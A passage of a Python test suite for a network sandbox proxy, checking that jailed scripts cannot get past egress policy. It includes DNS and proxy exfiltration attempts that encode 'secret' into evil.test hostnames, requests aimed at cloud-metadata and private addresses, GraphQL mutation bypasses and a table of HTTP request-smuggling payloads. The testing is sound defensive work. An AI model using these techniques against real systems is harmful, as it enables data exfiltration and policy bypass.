"""The cases of scripts/clients: what must not pass the network door, and what has to. Standard library only.

A case is a function that gives what went wrong, one text each; nothing means that all was as it should be. What reached
the outside is read from the origin's own log, never from what Tollgate says of itself.
"""

import base64
import html
import json
import os
import pathlib
import re
import shutil
import subprocess
import sys
import time
import urllib.parse

from laboratory import PYTHON, say

# What the jail's own scripts begin with: `told` collects what is printed at the end, as one JSON object.
PRELUDE = """
import json, re, socket, ssl, subprocess, sys, time, urllib.error, urllib.request
told = {}
def curl(*words, limit="8"):
    done = subprocess.run(["curl", "-sS", "--max-time", limit, *words], capture_output=True)
    return [done.returncode, done.stdout.decode("latin-1"), done.stderr.decode()]
def raw(host, port, data, patience=2.0, tls=None):
    try:
        sock = socket.create_connection((host, port), 5)
        if tls:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            sock = context.wrap_socket(sock, server_hostname=tls)
        sock.sendall(data)
        sock.settimeout(patience)
        got = b""
        while piece := sock.recv(65536):
            got += piece
        return got.decode("latin-1")
    except TimeoutError:
        return got.decode("latin-1") if "got" in dir() else "timeout"
    except OSError as error:
        return (got.decode("latin-1") if "got" in dir() else "") + repr(error)
"""


class Case:
    """What a case has at hand: the servers, and what went wrong so far."""

    def __init__(self, laboratory, name):
        self.laboratory = laboratory
        self.ports = laboratory.ports
        self.name = name
        self.wrong = []
        self.mark = len(laboratory.seen())

    def expect(self, true, what):
        if not true:
            self.wrong.append(what)

    def policy(self, rules, name=""):
        return self.laboratory.policy(f"{self.name}{name}", rules)

    def seen(self, what):
        """What the origin saw since the case began."""
        time.sleep(0.1)
        return [entry for entry in self.laboratory.seen()[self.mark :] if what in entry]

    def run(self, policy, command, options=(), **named):
        work = self.laboratory.folder(self.name)
        return self.laboratory.run(work, ["--policy", policy, "--no-apply", *options], command, **named)

    def inside(self, policy, script, options=(), **values):
        """Runs a script in the jail and gives the run, and what the script told."""
        run = self.run(
            policy,
            [PYTHON, "-c", PRELUDE + script + "\nprint('TOLD ' + json.dumps(told))", json.dumps(self.ports | values)],
            options,
        )
        told = {}
        for line in run.stdout.decode(errors="replace").splitlines():
            if line.startswith("TOLD "):
                told = json.loads(line.removeprefix("TOLD "))
        self.expect(told, f"the script in the jail ended early: {run.text[-600:]}")
        return run, told

    def nothing_unknown(self, run):
        """The origin saw no request that has no receipt."""
        receipts = [receipt["resource"]["url"] for receipt in run.of("http/request", "allowed")]
        receipts += [receipt["resource"]["url"] for receipt in run.of("http/request", "failed")]
        for entry in self.seen("request"):
            words = entry["request"].split(" ")
            target = words[1] if len(words) > 1 else ""
            found = next((url for url in receipts if url.endswith(target) and target), None)
            if found:
                receipts.remove(found)
            else:
                self.wrong.append(f"the origin saw {entry['request']!r}, of which no receipt says that it was allowed")

    def only_hello(self):
        """The origin saw requests of proper shape, of api.test, for /hello, and no others."""
        for entry in self.seen("request"):
            request = entry["request"][:200]
            target = request.split(" ")[1] if " " in request else request
            if "admin" in request or not target.startswith("/hello"):
                self.wrong.append(f"the origin saw {request!r}")
            hosts = [value for name, value in entry["headers"] if name.strip().lower() == "host"]
            if hosts != [f"api.test:{self.ports[entry['scheme']]}"]:
                self.wrong.append(f"the origin saw {request!r} with Host {hosts}")
            names = [name.strip().lower() for name, _ in entry["headers"]]
            if "transfer-encoding" in names and "content-length" in names:
                self.wrong.append(f"the origin saw {request!r} with both a length and an encoding")
            if any(name != name.strip() or not name for name, _ in entry["headers"]):
                self.wrong.append(f"the origin saw {request!r} with a header of doubtful shape")


def rule(effect, **keys):
    lines = "".join(f"{key} = {json.dumps(value)}\n" for key, value in keys.items())
    return f"[[allow]]\neffect = {json.dumps(effect)}\n{lines}\n"


def protocols(case):
    """HTTP as it comes: chunked, trailers, events as they come, 100-continue, WebSocket, HEAD, what breaks off."""
    ports = case.ports
    policy = case.policy(
        rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"], ports["http2"]])
    )
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
for scheme in ("http", "https"):
    base = f"{scheme}://api.test:{ports[scheme]}"
    told[scheme] = {
        "chunked": curl(f"{base}/chunked"),
        "trailers": curl("-i", "--raw", "-H", "TE: trailers", "--http1.1", f"{base}/trailers"),
        "head": curl("-I", f"{base}/hello"),
        "continue": curl("-H", "Expect: 100-continue", "--data-binary", "x" * 3000, f"{base}/echo"),
        "chunked up": curl("-H", "Transfer-Encoding: chunked", "--data-binary", "x" * 3000, f"{base}/echo"),
        "post": curl("-d", "a=b", f"{base}/echo"),
        "query": curl(f"{base}/echo?a=b%20c&d=%2F"),
        "cut": curl(f"{base}/cut"),
        "404": curl("-o", "/dev/null", "-w", "%{http_code}", f"{base}/nothing"),
        "keep": curl("-w", "%{num_connects} ", "-o", "/dev/null", "-o", "/dev/null", f"{base}/hello", f"{base}/hello"),
    }
    began = time.monotonic()
    response = urllib.request.urlopen(f"{base}/events")
    told[scheme]["events"] = [[time.monotonic() - began, line.decode()] for line in response if line.strip()]
key = "dGhlIHNhbXBsZSBub25jZQ=="
def websocket(scheme):
    sock = socket.create_connection(("api.test", ports[scheme]), 5)
    if scheme == "https":
        sock = ssl.create_default_context().wrap_socket(sock, server_hostname="api.test")
    sock.sendall(f"GET /ws HTTP/1.1\\r\\nHost: api.test:{ports[scheme]}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                 f"Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: {key}\\r\\n\\r\\n".encode())
    reader = sock.makefile("rb")
    head = []
    while line := reader.readline().strip():
        head.append(line.decode())
    echoed = []
    for word in (b"one", b"two"):
        sock.sendall(bytes([0x81, 0x80 | len(word)]) + bytes(4) + word)
        first, size = reader.read(2)
        echoed.append(reader.read(size).decode())
    sock.sendall(bytes([0x88, 0x80]) + bytes(4))
    sock.close()
    return [head, echoed]
for scheme in ("http", "https"):
    try:
        told["websocket " + scheme] = websocket(scheme)
    except (OSError, ValueError) as error:
        told["websocket " + scheme] = [[repr(error)], []]
base = f"https://api.test:{ports['http2']}"
told["h2"] = {"echo": curl("--http2", "-d", "a=b", f"{base}/echo"), "events": curl("--http2", "-N", f"{base}/events")}
""",
    )
    for scheme in ("http", "https"):
        got = told.get(scheme, {})

        def check(what, good, got=got, scheme=scheme):
            value = got.get(what)
            case.expect(value and good(value), f"{scheme}, {what}: {str(value)[:400]}")

        check("chunked", lambda value: value[1] == "".join(f"piece {number}\n" for number in range(5)))
        check("trailers", lambda value: value[0] == 0 and "x-sum: 5" in value[1].lower())
        check("head", lambda value: value[0] == 0 and "200" in value[1] and "content-length: 0" in value[1].lower())
        check("continue", lambda value: json.loads(value[1])["size"] == 3000)
        check("chunked up", lambda value: json.loads(value[1])["size"] == 3000)
        check("post", lambda value: json.loads(value[1])["size"] == 3)
        check("query", lambda value: json.loads(value[1])["target"] == "/echo?a=b%20c&d=%2F")
        check("cut", lambda value: value[0] != 0)
        check("404", lambda value: value[1] == "404")
        check("keep", lambda value: value[1] == "1 0 ")
        check("events", lambda value: len(value) == 4 and value[3][0] - value[0][0] > 0.8)
        check("websocket", lambda _: True, {"websocket": 1})
        shaken = told.get(f"websocket {scheme}", [[], []])
        case.expect("101" in "".join(shaken[0][:1]) and shaken[1] == ["one", "two"], f"{scheme}, WebSocket: {shaken}")
    h2 = told.get("h2", {})
    case.expect('"size": 3' in str(h2.get("echo")), f"HTTP/2, echo: {h2.get('echo')}")
    case.expect(str(h2.get("events")).count("data: ") == 4, f"HTTP/2, events: {h2.get('events')}")
    case.nothing_unknown(run)


def answers(case):
    """What servers answer with: no length, early, nothing, packed, nonsense; connections that end unannounced."""
    ports = case.ports
    policy = case.policy(rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"]]))
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
import http.client, threading
for scheme in ("http", "https"):
    base = f"{scheme}://api.test:{ports[scheme]}"
    got = told[scheme] = {what: curl("-i", f"{base}/{what}") for what in
        ("unannounced", "old", "hints", "204", "304", "cookies", "nonsense", "split", "packed")}
    open("zeros", "wb").truncate(64 << 20)
    got["early"] = curl("-H", "Expect:", "-T", "zeros", "-X", "POST", f"{base}/early", "-w", "%{http_code}", limit="20")
    got["refused body"] = curl("-H", "Expect:", "-T", "zeros", "-X", "POST", f"http://denied.test:{ports[scheme]}/", "-w", "%{http_code}", limit="20")
    # On one connection, whatever the server does with its own.
    make = http.client.HTTPSConnection if scheme == "https" else http.client.HTTPConnection
    connection, statuses = make("api.test", ports[scheme], timeout=10), []
    for number in range(12):
        connection.request("POST" if number % 3 == 2 else "GET", "/bye" if number % 2 else "/hello", body=b"x" if number % 3 == 2 else None)
        response = connection.getresponse()
        response.read()
        statuses.append(response.status)
        time.sleep(0.05 if number % 4 else 0)
    got["one after another"] = statuses
""",
    )
    for scheme in ("http", "https"):
        got = told.get(scheme, {})
        for what, status, words in (
            ("unannounced", "200", "up to the end"),
            ("old", "200", "old"),
            ("hints", "200", "hello from"),
            ("204", "204", ""),
            ("304", "304", "etag"),
            ("cookies", "200", "b=2"),
            ("packed", "200", "content-encoding: gzip"),
            ("nonsense", "502", ""),
            ("split", "502", ""),
        ):
            text = got.get(what, [0, "", ""])[1].lower()
            case.expect(
                f" {status} " in text.split("\r\n\r\n")[0] + text and words in text,
                f"{scheme}, {what}: {str(got.get(what))[:300]}",
            )
        case.expect(
            got.get("cookies", [0, ""])[1].lower().count("set-cookie") == 2, f"{scheme}: two cookies became one"
        )
        case.expect(got.get("early", [0, ""])[1].endswith("413"), f"{scheme}, early: {got.get('early')}")
        case.expect(
            "refused by admission" in str(got.get("refused body")),
            f"{scheme}, a large body that is refused: {str(got.get('refused body'))[:300]}",
        )
        case.expect(
            got.get("one after another") == [200] * 12, f"{scheme}, one after another: {got.get('one after another')}"
        )
    case.nothing_unknown(run)


def loopback(case):
    """Own servers by every spelling of the loopback; the host's ports only where they are granted (case 19)."""
    port = case.ports["http"]
    script = """
ports = json.loads(sys.argv[1])
own = 8123
servers = [subprocess.Popen([sys.executable, "-m", "http.server", str(own), "--bind", address],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for address in ("127.0.0.1", "::1")]
for _ in range(100):
    if all(curl(f"http://{host}:{own}/")[0] == 0 for host in ("127.0.0.1", "[::1]")):
        break
    time.sleep(0.1)
told["own"] = {host: curl("-f", f"http://{host}:{own}/")[0] for host in ("localhost", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]")}
told["host"] = {host: curl("-f", f"http://{host}:{ports['http']}/hello", limit="5") for host in
                ("localhost", "127.0.0.1", "[::1]", "[::ffff:127.0.0.1]")}
for server in servers:
    server.kill()
"""
    network = rule(["http/request"], host=["api.test"], port=[port])
    for name, rules, options, granted in (
        ("no network", "", [], False),
        ("a network, no grant", network, [], False),
        ("the port granted", network, ["--host-port", str(port)], True),
        ("the port granted and nothing else", "", ["--host-port", str(port)], True),
    ):
        _, told = case.inside(case.policy(rules, name.replace(" ", "-").replace(",", "")), script, options)
        for host, status in told.get("own", {}).items():
            case.expect(status == 0, f"{name}: the own server at {host}: curl's status {status}")
        for host, (status, body, error) in told.get("host", {}).items():
            # A mapped address is the host's port too, or nothing; never something else.
            reached = "hello from the origin" in body
            if granted and "ffff" not in host:
                case.expect(reached, f"{name}: the host's port at {host}: {status} {error} {body[:200]}")
            elif not granted:
                case.expect(not reached, f"{name}: the host's port was reached at {host}")


def streams(case):
    """What is no HTTP: admitted by host and port, refused with a reason, its bytes counted (case 20)."""
    ports = case.ports
    policy = case.policy(rule(["net/connect"], host=["db.test"], port=[ports["echo"]]))
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
def lines(host, port):
    try:
        sock = socket.create_connection((host, port), 5)
        sock.sendall(b"hi\\n")
        return sock.recv(9).decode()
    except OSError as error:
        return type(error).__name__
told["allowed"] = lines("db.test", ports["echo"])
told["upper case and dot"] = lines("DB.Test.", ports["echo"])
told["other port"] = lines("db.test", ports["other"])
told["other name"] = lines("denied.test", ports["echo"])
told["address"] = lines("127.0.0.1", ports["echo"])
told["other address"] = lines("192.0.2.7", ports["echo"])
told["large"] = None
sock = socket.create_connection(("db.test", ports["echo"]), 5)
import threading
def push():
    for _ in range(64):
        sock.sendall(bytes(65536))
    sock.shutdown(socket.SHUT_WR)
threading.Thread(target=push).start()
size = 0
while piece := sock.recv(65536):
    size += len(piece)
told["large"] = size
""",
    )
    case.expect(told.get("allowed") == "hi\n", f"db.test at the allowed port: {told.get('allowed')}")
    case.expect(told.get("upper case and dot") == "hi\n", f"DB.Test.: {told.get('upper case and dot')}")
    case.expect(told.get("large") == 4 << 20, f"4 MiB came back as {told.get('large')}")
    for what in ("other port", "other name", "address", "other address"):
        case.expect(str(told.get(what)).endswith("Error"), f"{what}: {told.get(what)!r}")
    receipts = run.of("net/connect")
    allowed = [receipt for receipt in receipts if receipt["decision"] == "allowed"]
    case.expect(
        any(
            receipt["resource"]["to"] == f"db.test:{ports['echo']}"
            and "3 bytes sent, 3 received" in receipt["reason"]
            and "closed" in receipt["reason"]
            for receipt in allowed
        ),
        f"no receipt with host, port, bytes and end: {[receipt['reason'] for receipt in allowed]}",
    )
    for to in (f"db.test:{ports['other']}", f"denied.test:{ports['echo']}", f"192.0.2.7:{ports['echo']}"):
        found = [
            receipt for receipt in receipts if receipt["resource"]["to"] == to and receipt["decision"] == "refused"
        ]
        case.expect(found and found[0]["reason"] and found[0]["hint"], f"no refusal of {to} with its reason and a hint")
    case.expect(
        not [entry for entry in case.seen("connected") if entry["connected"] == "other"],
        "the refused port was connected to",
    )


def names(case):
    """No name that is not admitted is looked up outside, whatever way it is asked (case 21)."""
    ports = case.ports
    policy = case.policy(rule(["http/request"], host=["api.test"], port=[ports["http"], ports["https"]]))
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
base = f"http://api.test:{ports['http']}"
told["getent"] = subprocess.run(["getent", "hosts", "c2VjcmV0.getent.evil.test"], capture_output=True, text=True).stdout
told["curl"] = curl("http://c2VjcmV0.curl.evil.test/")
told["tls"] = curl("-k", "https://c2VjcmV0.tls.evil.test/")
query = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(part)]) + part for part in
        b"c2VjcmV0.udp.evil.test".split(b".")) + b"\\0\\0\\1\\0\\1"
for server in ("192.0.2.1", "198.18.0.1", "127.0.0.1"):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    try:
        sock.sendto(query, (server, 53))
        told["udp " + server] = sock.recvfrom(512)[0][:12].hex()
    except OSError as error:
        told["udp " + server] = repr(error)
for kind in (15, 16, 33, 65, 255):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.sendto(query[:-4] + bytes([0, kind]) + query[-2:], ("198.18.0.1", 53))
told["tcp"] = raw("192.0.2.1", 53, len(query).to_bytes(2, "big") + query)
told["connect"] = raw("api.test", ports["http"], b"CONNECT c2VjcmV0.connect.evil.test:443 HTTP/1.1\\r\\nHost: c2VjcmV0.connect.evil.test:443\\r\\n\\r\\n")
told["absolute"] = raw("api.test", ports["http"], b"GET http://c2VjcmV0.absolute.evil.test/ HTTP/1.1\\r\\nHost: c2VjcmV0.absolute.evil.test\\r\\n\\r\\n")
told["proxy"] = curl("-x", base, "http://c2VjcmV0.proxy.evil.test/")
told["proxy tls"] = curl("-x", base, "https://c2VjcmV0.proxytls.evil.test/")
told["redirect"] = curl("-L", f"{base}/redirect?to=http://c2VjcmV0.redirect.evil.test/")
told["sni"] = raw("api.test", ports["https"], b"GET / HTTP/1.1\\r\\n\\r\\n", tls="c2VjcmV0.sni.evil.test")
told["plain udp"] = ""
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.1", 9999))
except OSError as error:
    told["plain udp"] = repr(error)
""",
    )
    leaked = sorted(name for name in case.laboratory.asked() if "evil" in name)
    case.expect(not leaked, f"looked up outside: {', '.join(leaked)}")
    case.expect(case.laboratory.asked(), "the stub was asked nothing at all, so it shows nothing")
    case.expect("PermissionError" in told.get("plain udp", ""), f"a datagram: {told.get('plain udp')!r}")
    for way in ("getent", "curl", "udp", "redirect"):
        case.expect(
            [
                receipt
                for receipt in run.of("net/resolve", "refused")
                if receipt["resource"]["to"] == f"c2vjcmv0.{way}.evil.test"
            ],
            f"no refused receipt of the name by {way}",
        )
    for way in ("connect", "absolute", "proxy", "proxytls", "sni"):
        case.expect(
            [
                receipt
                for receipt in run.receipts
                if receipt["decision"] == "refused" and f"{way}.evil.test" in json.dumps(receipt).lower()
            ],
            f"no refused receipt that names the host by {way}: "
            f"{str(told.get('proxy tls' if way == 'proxytls' else way))[:300]}",
        )
    case.nothing_unknown(run)


def reads(case):
    """Reading without writing: git push, DELETE and what GraphQL changes (case 22)."""
    ports = case.ports
    served = [ports["http"], ports["https"]]
    policy = case.policy(
        rule(["http/request"], host=["git.test"], port=served, operation=["git/fetch"])
        + rule(["http/request"], host=["api.test"], port=served, method=["GET"])
        + rule(["http/request"], host=["gql.test"], port=served, operation=["graphql/query"])
    )
    run, told = case.inside(
        policy,
        """
import gzip, pathlib
ports = json.loads(sys.argv[1])
git = f"https://git.test:{ports['https']}/git/greeting.git"
def sh(command):
    done = subprocess.run(["sh", "-c", command], capture_output=True, text=True)
    return [done.returncode, done.stdout + done.stderr]
told["clone"] = sh(f"git clone -q {git} copy && cat copy/greeting")
told["fetch"] = sh("cd copy && git fetch -q && git ls-remote -q")
told["push"] = sh("cd copy && echo x > new && git add new && git -c user.name=a -c user.email=a@localhost commit -qm new && git push -q origin HEAD:refs/heads/new")
told["delete"] = curl("-X", "DELETE", f"http://api.test:{ports['http']}/echo")
told["get"] = curl(f"http://api.test:{ports['http']}/echo")
told["lower"] = curl("-X", "delete", f"http://api.test:{ports['http']}/echo")
told["override"] = curl("-X", "POST", "-H", "X-HTTP-Method-Override: GET", f"http://api.test:{ports['http']}/echo")
base = f"https://gql.test:{ports['https']}/graphql"
def gql(body, kind="application/json", *more, url=base):
    pathlib.Path("body").write_bytes(body)
    return curl("-H", f"Content-Type: {kind}", "--data-binary", "@body", "-w", "\\n%{http_code}", *more, url)[1].rsplit("\\n", 1)[-1]
query = b'{"query":"query Q { a }"}'
mutation = b'{"query":"mutation M { b }"}'
told["good"] = {
    "query": gql(query), "short": gql(b'{"query":"{ a }"}'),
    "fragment": gql(b'{"query":"fragment F on T { a } query { ...F }"}'),
    "variables": gql(b'{"query":"query($x: Int) { a(x: $x) }","variables":{"x":"mutation { b }"}}'),
    "word in a string": gql(b'{"query":"{ a(x: \\\\"mutation { b }\\\\") }"}'),
    "batch of queries": gql(b"[" + query + b"," + query + b"]"),
    "by GET": curl("-G", "--data-urlencode", "query={ a }", "-o", "/dev/null", "-w", "%{http_code}", base)[1],
}
told["bad"] = {
    "mutation": gql(mutation), "subscription": gql(b'{"query":"subscription { c }"}'),
    "batch of both": gql(b"[" + query + b"," + mutation + b"]"),
    "unreadable": gql(b'{"query":'), "not GraphQL": gql(b'{"query":"}}}"}'), "empty": gql(b""), "no query": gql(b"{}"),
    "by a name alone": gql(b'{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"aa"}}}'),
    "two operations": gql(b'{"query":"query Q { a } mutation M { b }","operationName":"M"}'),
    "two operations, the query named": gql(b'{"query":"query Q { a } mutation M { b }","operationName":"Q"}'),
    "behind a comment": gql(b'{"query":"# query { a }\\\\nmutation { b }"}'),
    "escaped": gql(b'{"query":"\\\\u006dutation { b }"}'),
    "key twice": gql(b'{"query":"{ a }","query":"mutation { b }"}'),
    "key escaped, twice": gql(b'{"query":"{ a }","\\\\u0071uery":"mutation { b }"}'),
    "as application/graphql": gql(b"mutation { b }", "application/graphql"),
    "as a form": gql(b"query=mutation+%7B+b+%7D", "application/x-www-form-urlencoded"),
    "as plain text": gql(mutation, "text/plain"),
    "compressed": gql(gzip.compress(mutation), "application/json", "-H", "Content-Encoding: gzip"),
    "UTF-16": gql(mutation.decode().encode("utf-16"), "application/json; charset=utf-16"),
    "with a byte order mark": gql(b"\\xef\\xbb\\xbf" + mutation),
    "query in the address, mutation in the body": gql(mutation, url=base + "?query=%7Ba%7D"),
    "mutation in the address, query in the body": gql(query, url=base + "?query=mutation%7Bb%7D"),
    "by GET": curl("-G", "--data-urlencode", "query=mutation { b }", "-o", "/dev/null", "-w", "%{http_code}", base)[1],
    "chunked": gql(mutation, "application/json", "-H", "Transfer-Encoding: chunked"),
    "deep": gql(b'{"query":"mutation ' + b"{a" * 5000 + b"}" * 5000 + b'"}'),
}
""",
    )
    clone, push = told.get("clone", [1, ""]), told.get("push", [0, ""])
    case.expect(clone[0] == 0 and "hello" in clone[1], f"git clone: {clone}")
    case.expect(told.get("fetch", [1])[0] == 0, f"git fetch: {told.get('fetch')}")
    case.expect(push[0] != 0 and ("policy" in push[1] or "ollgate" in push[1]), f"git push: {push}")
    for entry in case.seen("git"):
        case.expect("receive-pack" not in entry["git"], f"the origin saw {entry['method']} {entry['git']}")
    case.expect(told.get("get", [1])[0] == 0 and '"GET"' in told["get"][1], f"GET: {told.get('get')}")
    for what in ("delete", "lower", "override"):
        case.expect("refused by admission" in str(told.get(what)), f"{what}: {told.get(what)}")
    for what, status in told.get("good", {}).items():
        case.expect(status == "200", f"GraphQL, {what}: status {status}, expected 200")
    for what, status in told.get("bad", {}).items():
        case.expect(status == "403", f"GraphQL, {what}: status {status}, expected 403")
    posts = [entry for entry in case.seen("request") if "/graphql" in entry["request"]]
    case.expect(
        len(posts) == len(told.get("good", {})),
        f"the origin saw {len(posts)} requests of GraphQL, and {len(told.get('good', {}))} were queries",
    )
    case.nothing_unknown(run)


def inward(case):
    """Names and addresses that lead to where no request of a program may go, refused by containment."""
    ports = case.ports
    port = ports["http"]
    policy = case.policy(
        rule(["http/request"], host=["any"], port=[port]) + rule(["net/connect"], host=["any"], port=[ports["echo"]])
    )
    traps = ["loopback", "metadata", "private", "mapped", "nat64", "sixtofour", "six", "unspecified", "mixed"]
    run, told = case.inside(
        policy,
        """
ports = json.loads(sys.argv[1])
port = ports["http"]
for name in ports["traps"]:
    told[name] = curl(f"http://{name}.trap.test:{port}/hello")
    told[name + ", no HTTP"] = [0, raw(f"{name}.trap.test", ports["echo"], b"hi\\n"), ""]
for address in ("169.254.169.254", "10.0.0.1", "192.168.1.1", "172.16.0.1", "100.64.0.1", "192.0.2.1", "224.0.0.1",
                "[::ffff:10.0.0.1]", "[64:ff9b::10.0.0.1]", "[2002:0a00:0001::]", "[fd00::1]", "[fe80::1]", "[fd00:ec2::254]"):
    told[address] = curl(f"http://{address}:{port}/hello")
for text in ("2130706433", "0x7f000001", "0177.0.0.1", "127.1"):
    told[text] = [0, raw("192.0.2.9", port, f"GET /hello HTTP/1.1\\r\\nHost: {text}:{port}\\r\\n\\r\\n".encode()), ""]
""",
        traps=traps,
    )
    for what, (_, body, error) in told.items():
        case.expect("hello from" not in body and body != "hi\n", f"{what} was reached")
    for name in traps:
        found = [receipt for receipt in run.of("http/request") if f"//{name}.trap.test" in receipt["resource"]["url"]]
        case.expect(
            found
            and all(receipt["decision"] == "refused" and receipt["decided_by"] == "containment" for receipt in found),
            f"{name}: {[(receipt['decision'], receipt['decided_by'], receipt['reason']) for receipt in found]}",
        )
        found = [
            receipt for receipt in run.of("net/connect") if receipt["resource"]["to"].startswith(f"{name}.trap.test")
        ]
        case.expect(
            found
            and all(receipt["decision"] == "refused" and receipt["decided_by"] == "containment" for receipt in found),
            f"{name}, no HTTP: {[(receipt['decision'], receipt['decided_by'], receipt['reason']) for receipt in found]}",
        )
    for entry in case.seen("connected"):
        case.wrong.append(f"a connection arrived at the origin: {entry}")


# Requests of a doubtful shape, HOST standing for the right Host. `/hello` is allowed, `/admin` and other.test are not.
SHAPES = {
    "length and chunked": "POST /hello HTTP/1.1|Host: HOST|Content-Length: 6|Transfer-Encoding: chunked||0||GET /admin HTTP/1.1|Host: HOST||",
    "chunked and length": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked|Content-Length: 60||0||GET /admin HTTP/1.1|Host: HOST||",
    "chunked twice": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked|Transfer-Encoding: chunked||0||GET /admin HTTP/1.1|Host: HOST||",
    "chunked, identity": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked, identity|Content-Length: 5||0||GET /admin HTTP/1.1|Host: HOST||",
    "xchunked": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: xchunked|Content-Length: 5||0||GET /admin HTTP/1.1|Host: HOST||",
    "vertical tab before chunked": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: \x0bchunked|Content-Length: 5||0||GET /admin HTTP/1.1|Host: HOST||",
    "space before the colon": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding : chunked|Content-Length: 5||0||GET /admin HTTP/1.1|Host: HOST||",
    "folded": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding:| chunked|Content-Length: 5||0||GET /admin HTTP/1.1|Host: HOST||",
    "lengths that differ": "POST /hello HTTP/1.1|Host: HOST|Content-Length: 0|Content-Length: 40||GET /admin HTTP/1.1|Host: HOST||",
    "length with a sign": "POST /hello HTTP/1.1|Host: HOST|Content-Length: +0||GET /admin HTTP/1.1|Host: HOST||",
    "length in a list": "POST /hello HTTP/1.1|Host: HOST|Content-Length: 0, 40||GET /admin HTTP/1.1|Host: HOST||",
    "length below zero": "POST /hello HTTP/1.1|Host: HOST|Content-Length: -1||GET /admin HTTP/1.1|Host: HOST||",
    "chunk too large": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked||ffffffffffffffff1|GET /admin HTTP/1.1|Host: HOST||",
    "chunk with 0x": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked||0x0||GET /admin HTTP/1.1|Host: HOST||",
    "chunk ended by a line feed": "POST /hello HTTP/1.1|Host: HOST|Transfer-Encoding: chunked||1\nZ|0||GET /admin HTTP/1.1|Host: HOST||",
    "chunked of HTTP/1.0": "POST /hello HTTP/1.0|Host: HOST|Transfer-Encoding: chunked|Connection: keep-alive||0||GET /admin HTTP/1.1|Host: HOST||",
    "line feeds alone": "GET /hello HTTP/1.1\nHost: HOST\n\nGET /admin HTTP/1.1\nHost: HOST\n\n",
    "carriage return alone": "GET /hello HTTP/1.1|Host: HOST|X: a\rGET /admin HTTP/1.1||",
    "null in a header": "GET /hello HTTP/1.1|Host: HOST|X: a\0b||",
    "line of its own first": "GET /hello HTTP/1.1| Host: other.test|Host: HOST||",
    "two hosts": "GET /hello HTTP/1.1|Host: HOST|Host: other.test||",
    "two equal hosts": "GET /hello HTTP/1.1|Host: HOST|Host: HOST||",
    "another host": "GET /hello HTTP/1.1|Host: other.test||",
    "another port": "GET /hello HTTP/1.1|Host: api.test:1||",
    "a host in a list": "GET /hello HTTP/1.1|Host: HOST, other.test||",
    "a host with a name before it": "GET /hello HTTP/1.1|Host: other.test@HOST||",
    "a host with a path": "GET /hello HTTP/1.1|Host: HOST/admin||",
    "no host": "GET /hello HTTP/1.1||",
    "an empty host": "GET /hello HTTP/1.1|Host: ||",
    "whole address of another host": "GET http://other.test/hello HTTP/1.1|Host: HOST||",
    "whole address, other Host": "GET http://HOST/hello HTTP/1.1|Host: other.test||",
    "whole address with a name": "GET http://HOST@other.test/hello HTTP/1.1|Host: HOST||",
    "whole address by https": "GET https://HOST/hello HTTP/1.1|Host: HOST||",
    "whole address of a file": "GET file:///hello HTTP/1.1|Host: HOST||",
    "CONNECT": "CONNECT other.test:443 HTTP/1.1|Host: other.test:443||",
    "CONNECT to itself": "CONNECT HOST HTTP/1.1|Host: HOST||GET /admin HTTP/1.1|Host: HOST||",
    "upgrade to HTTP/2": "GET /hello HTTP/1.1|Host: HOST|Connection: Upgrade, HTTP2-Settings|Upgrade: h2c|HTTP2-Settings: AAMAAABkAAQAAP__||PRI * HTTP/2.0||SM||",
    "upgrade that is not taken": "GET /hello HTTP/1.1|Host: HOST|Connection: Upgrade|Upgrade: websocket|Sec-WebSocket-Version: 13|Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==||GET /admin HTTP/1.1|Host: HOST||",
    "upgrade with a body": "POST /hello HTTP/1.1|Host: HOST|Connection: Upgrade|Upgrade: websocket|Content-Length: 3||abcGET /admin HTTP/1.1|Host: HOST||",
    "header named by Connection": "GET /hello HTTP/1.1|Host: HOST|Connection: close, Host, Content-Length||",
    "dots": "GET /hello/../admin HTTP/1.1|Host: HOST||",
    "encoded dots": "GET /hello/%2e%2e/admin HTTP/1.1|Host: HOST||",
    "two slashes": "GET //admin HTTP/1.1|Host: HOST||",
    "backslash": "GET /hello\\..\\admin HTTP/1.1|Host: HOST||",
    "fragment": "GET /hello#/../admin HTTP/1.1|Host: HOST||",
    "spaces in the line": "GET /hello HTTP/1.1 /admin HTTP/1.1|Host: HOST||",
    "tab in the line": "GET\t/admin\tHTTP/1.1|Host: HOST||",
    "version nobody has": "GET /hello HTTP/9.9|Host: HOST||GET /admin HTTP/1.1|Host: HOST||",
    "HTTP/2 by prior knowledge": "PRI * HTTP/2.0||SM||",
    "HTTP/0.9": "GET /admin|",
    "empty method": " /admin HTTP/1.1|Host: HOST||",
    "letters beyond ASCII in the name": "GET /hello HTTP/1.1|Host: HOST|Tr\xe4nsfer: chunked||",
    "pipelined": "GET /hello HTTP/1.1|Host: HOST||GET /admin HTTP/1.1|Host: HOST||GET /hello HTTP/1.1|Host: HOST||",
    "body of GET": "GET /hello HTTP/1.1|Host: HOST|Content-Length: 44||GET /admin HTTP/1.1|Host: HOST||",
